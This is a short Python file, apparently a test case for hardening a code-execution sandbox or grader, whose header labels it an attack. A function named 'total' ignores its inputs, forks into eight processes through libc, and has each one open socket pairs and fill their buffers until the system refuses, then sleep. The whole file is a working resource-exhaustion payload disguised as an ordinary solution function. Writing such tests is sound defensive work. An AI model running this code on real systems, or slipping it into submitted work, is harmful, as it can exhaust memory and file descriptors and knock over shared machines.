# attack: fills the buffers of sockets in all its processes
# expects: any
# within: 2

import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def total(numbers, known):
    import socket
    for _ in range(3): libc.fork()
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            try:
                while True: pair[0].send(bytes(60_000))
            except BlockingIOError: pass
    except OSError: pass
    libc.sleep(5)
    return 0
